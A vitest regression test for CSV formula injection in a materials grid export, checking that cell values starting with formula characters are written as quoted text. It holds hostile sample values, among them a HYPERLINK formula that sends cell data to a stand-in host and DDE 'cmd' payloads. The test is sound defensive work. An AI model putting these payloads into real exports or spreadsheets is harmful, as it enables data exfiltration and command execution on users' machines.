import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TFunction } from 'i18next';
import { buildExportTable, toCsv } from '../../core/src/grid/export/export-table';
import type { GridColumn } from '../../core/src/grid/schema-types';
import { startTestServer, type TestServer } from '../helpers/test-server';
import { signInAs, type TestApi } from '../helpers/api-client';

/**
 * Hole 10a of the second probe: the grid's CSV export wrote cells starting with =, +, -, @, a tab
 * or a carriage return as they were, so a material named `=HYPERLINK(...)` ran as a formula when
 * the file was opened in a spreadsheet program. The export of the materials grid, from the rows
 * the list route answers, writes them as text (quote prefixed, cell quoted).
 */

let t: TestServer;
let admin: TestApi;
beforeAll(async () => {
  t = await startTestServer({ scale: 0 });
  admin = await signInAs(t.baseUrl, 'admin');
});
afterAll(() => t?.close());

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
/** The server trims names, so a leading tab or carriage return is tried on rows of the list's shape directly. */
const WHITESPACE_LED = ['\t=1+1', '\r=1+1'];

describe('the CSV export of a grid', () => {
  it('writes names that start like a formula as text', async () => {
    for (const [i, name] of HOSTILE.entries()) {
      const res = await admin.post('/api/Material', { itemNo: `CSV-${i}`, name, baseUoM: 'PCS', unitsOfMeasure: [{ uoMType: 'PCS', quantity: 1, isShipable: true }] });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
    }
    const list = await admin.get<{ result: Array<Record<string, unknown>> }>('/api/Material/description');
    const rows = list.body.result.filter((r) => String(r.itemNo).startsWith('CSV-')).sort((a, b) => String(a.itemNo).localeCompare(String(b.itemNo)));
    expect(rows.map((r) => r.name)).toEqual(HOSTILE);
    const grid = JSON.parse(fs.readFileSync(path.resolve(import.meta.dirname, '../../schemas/grids/materials.json'), 'utf8')) as { columns: GridColumn[] };
    const columns = grid.columns.filter((c) => c.field === 'itemNo' || c.field === 'name');
    const t = ((k: string) => k) as unknown as TFunction;
    const format = { t, timestamps: { region: 'UTC', dateFormat: 'YYYY-MM-DD', timeFormat: 'HH:mm' }, numbers: { locale: 'en-GB' }, lookups: {} };
    const all = [...rows, ...WHITESPACE_LED.map((name, i) => ({ ...rows[0], itemNo: `WS-${i}`, name }))];
    const csv = toCsv(buildExportTable(columns, all, (c) => c.field, format));
    const lines = csv.replace('\uFEFF', '').split('\r\n');
    expect(lines[0]).toBe(columns.map((c) => c.field).join(','));
    // Every hostile cell begins with a quoted single quote; no cell of the file begins with a formula character.
    for (const name of [...HOSTILE, ...WHITESPACE_LED]) expect(csv).toContain(`"'${name.replace(/"/g, '""')}"`);
    const cells = csv.match(/(^|,|\r\n)("[^"]*(?:""[^"]*)*"|[^,\r\n]*)/g) ?? [];
    expect(cells.map((c) => c.replace(/^(,|\r\n)/, '').replace(/^"/, '')).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
